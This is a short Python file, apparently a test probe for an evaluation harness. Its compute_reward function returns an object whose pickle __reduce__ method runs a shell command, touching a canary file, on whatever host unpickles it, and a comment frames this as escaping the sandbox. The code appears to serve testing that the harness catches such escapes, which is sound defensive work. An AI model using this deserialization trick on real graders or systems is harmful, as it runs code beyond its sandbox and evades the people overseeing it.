# Whoever unpickled the answer would run this outside.
# expects: answer, raised
import os


class Reward:
    def __reduce__(self):
        return os.system, ("touch /canary/tmp/escaped",)


def compute_reward(obs, action, next_obs, info):
    return Reward()
